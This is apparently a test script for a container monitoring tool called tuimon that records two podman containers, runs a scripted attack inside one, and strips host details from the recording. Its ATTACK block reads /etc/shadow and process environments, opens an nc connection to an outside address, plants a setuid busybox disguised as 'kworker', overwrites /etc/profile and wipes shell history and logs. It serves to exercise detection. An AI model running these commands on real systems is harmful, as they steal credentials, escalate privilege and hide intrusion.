"""Make the recording that tuimon ships: two real containers at work, one of them attacked. Needs root and podman.

    sudo .venv/bin/python -m tests.make_demo tuimon/recordings/demo.tmon

What happened in the containers is kept as the kernel told it. What belongs to the machine that made the recording is
left out: its other processes, its paths, its names.
"""

from __future__ import annotations

import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

import numpy as np
from numpy.typing import NDArray

from tests.containers import Podman, podman_engine
from tuimon.batch import Batch, take
from tuimon.capture.kernel import KernelSource
from tuimon.capture.recorded_counts import read_counts
from tuimon.capture.recording import RecordingReader, RecordingWriter
from tuimon.capture.source import CallCounts, Counts
from tuimon.engine import Engine, build_engine
from tuimon.enrich.processes import ProcessTable
from tuimon.headless.record import Recorder
from tuimon.rulefiles import rule_files
from tuimon.settings import Settings

WEB, DB = "docker.io/acme/shop-web:1.4", "docker.io/acme/shop-db:16.2"
WEB_WORK = """
while true; do
  cat /etc/hostname /etc/passwd > /dev/null; ls / > /dev/null; echo "GET / 200" >> /tmp/access.log; sleep 0.7
done
"""
DB_WORK = """
mkdir -p /tmp/db; i=0
while true; do
  i=$((i+1)); echo row $i > /tmp/db/row; mv /tmp/db/row /tmp/db/last; wc -l /tmp/db/last > /dev/null; sleep 0.4
done
"""
ATTACK = """
id
uname -a; cat /proc/version > /dev/null
ls -la /root /etc > /dev/null
cat /etc/shadow
cat /proc/1/environ > /dev/null
nc -w 1 203.0.113.9 443 < /dev/null
cp /bin/busybox /tmp/kworker
chmod 755 /tmp/kworker
/tmp/kworker sh -c true
sh -c 'echo persist > /etc/profile.d.new; mv /etc/profile.d.new /etc/profile'
unshare -m true
chmod 4755 /tmp/kworker
rm -f /root/.ash_history /tmp/access.log
exit 0
"""


def act(podman: Podman) -> None:
    """Let the containers work, then attack one."""
    podman.run("shop-web", WEB, "/bin/sh", "-c", WEB_WORK)
    podman.run("shop-db", DB, "/bin/sh", "-c", DB_WORK)
    time.sleep(6)
    line = " ".join([*podman.client, "exec", "-it", "shop-web", "/bin/sh"])
    shell = subprocess.Popen(
        ["script", "-qec", line, "/dev/null"], env=podman.env,
        stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, text=True,
    )  # fmt: skip
    assert shell.stdin is not None
    time.sleep(1)
    for command in ATTACK.strip().splitlines():
        shell.stdin.write(command + "\n")
        shell.stdin.flush()
        time.sleep(0.9)
    shell.stdin.close()
    shell.wait(30)
    time.sleep(4)


def record_all(path: Path) -> set[int]:
    """Record everything while the containers act; return the containers' cgroup ids."""
    settings = Settings()
    engine: Engine = build_engine(settings, KernelSource())
    assert engine.apply_rules(rule_files(settings)).accepted
    engine.watch(None)
    engine.start()
    assert engine.wait_started(60), engine.error()
    recorder = Recorder(engine, path)
    wanted: set[int] = set()
    try:
        with (
            tempfile.TemporaryDirectory(prefix="tm", dir="/tmp") as folder,
            podman_engine(Path(folder), (WEB, DB)) as it,
        ):
            actor = threading.Thread(target=act, args=(it,))
            actor.start()
            actor.join()
            for container in engine.containers.list():
                if container.name in ("shop-web", "shop-db"):
                    wanted |= set(engine.containers.cgroups_of(container.full_id))
            engine.halt()
            recorder.close()
    finally:
        engine.stop()
    assert wanted, "no container was seen"
    return wanted


def cut(source: Path, target: Path, cgroups: set[int]) -> None:
    """Copy a recording, only what the programs of these cgroups did."""
    reader = RecordingReader(source)
    frames = list(reader.frames())
    ids = np.array(sorted(cgroups), np.uint64)
    states = {kind: value for kind, value in frames if isinstance(value, dict)}
    table, num = ProcessTable.from_state(states[b"PROC"]), 1
    kept: list[Batch | dict[str, Any]] = []
    for kind, value in frames:
        if isinstance(value, Batch):
            value.first_num, num = num, num + len(value)
            table.apply(value)
            kept.append(take(value, np.flatnonzero(wanted_rows(value, ids, table))))
        elif kind == b"CNTS":
            kept.append(value)
    pids = {int(pid) for b in kept if isinstance(b, Batch) for pid in np.unique(b.head["tgid"])}
    meta = {**reader.meta, "node": "demo-node", "kernel": reader.meta["kernel"].split("-")[0]}
    meta["names"] = {"users": {"0": ["root", "0", "/root", "/bin/sh"]}, "groups": {"0": ["root"]}}
    writer = RecordingWriter(target, meta)
    writer.processes(only_processes(states[b"PROC"], pids, cgroups))
    writer.containers(only_containers(states[b"CONT"], cgroups))
    for value in kept:
        if isinstance(value, Batch):
            writer.batch(value)
        else:
            writer.counts(*only_counts(value, ids, writer.events))
    writer.close()


def only_counts(state: dict[str, Any], cgroups: NDArray[np.uint64], emitted: int) -> tuple[Counts, CallCounts]:
    """Keep the counters of the containers; the totals are theirs."""
    counts, calls = read_counts(state)
    kept = np.isin(calls.cgroup_ids, cgroups)
    seen = max(int(calls.calls[kept].sum()), emitted)
    mine = CallCounts(calls.cgroup_ids[kept], calls.calls[kept], calls.errors[kept], calls.dropped[kept])
    return Counts(seen=seen, emitted=emitted, filtered=seen - emitted, self_calls=counts.self_calls), mine


def wanted_rows(batch: Batch, cgroups: NDArray[np.uint64], table: ProcessTable) -> NDArray[np.bool_]:
    """Tell the rows of the containers' programs from those of the runtime that sets the containers up."""
    keep = np.isin(batch.head["cgroup_id"], cgroups)
    for index in np.unique(batch.process_at[keep]).tolist():
        process = table.get(index)
        if process is None or "runc" in process.exepath or process.comm == "exe" or process.comm.startswith("runc"):
            keep &= batch.process_at != index
    return keep


def only_processes(state: dict[str, Any], pids: set[int], cgroups: set[int]) -> dict[str, Any]:
    """Keep the processes of the containers; whoever started them stays behind."""
    rows = [r for r in state["processes"] if r["pid"] in pids and r["cgroup_id"] in cgroups]
    indexes = {row["index"] for row in rows}
    for row in rows:
        row["parent"] = row["parent"] if row["parent"] in indexes else None
    return {
        **state,
        "processes": rows,
        "newest": {pid: index for pid, index in state["newest"].items() if index in indexes},
    }


def only_containers(state: dict[str, Any], cgroups: set[int]) -> dict[str, Any]:
    """Keep the two containers, without paths of the machine they ran on."""
    rows = [row for row in state["containers"] if set(row["cgroups"]) & cgroups]
    for row in rows:
        row.update(upper_dir=None, mounts=[], pid=None, ended=False)
    return {**state, "containers": rows}


def main() -> None:
    """Record, then cut."""
    target = Path(sys.argv[1])
    with tempfile.TemporaryDirectory(prefix="tm-demo-") as folder:
        raw = Path(folder) / "raw.tmon"
        cgroups = record_all(raw)
        target.unlink(missing_ok=True)
        cut(raw, target, cgroups)
    print(f"{target}: {target.stat().st_size:,} bytes")


if __name__ == "__main__":
    main()
